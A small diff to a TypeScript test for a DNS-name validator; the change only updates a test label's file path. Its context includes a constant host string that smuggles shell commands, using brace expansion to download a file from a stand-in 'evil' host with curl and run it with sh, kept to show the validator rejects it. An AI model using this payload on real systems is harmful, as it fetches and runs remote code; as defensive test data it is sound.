@@ -4,7 +4,7 @@ import { isDnsName, isIpv4, printableHost } from '@/lib/core/dns-name';
 /** A host the WHATWG URL parser keeps, which a shell runs when a line that prints it is pasted. */
 const EXPLOIT = 'a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app';
 
-describe('DNS names (lib/dns-name.ts)', () => {
+describe('DNS names (lib/core/dns-name.ts)', () => {
   it("the review's host is a URL host, but no DNS name", () => {
     expect(new URL(`http://${EXPLOIT}:5173/`).hostname).toBe(EXPLOIT);
     expect(isDnsName(EXPLOIT)).toBe(false);
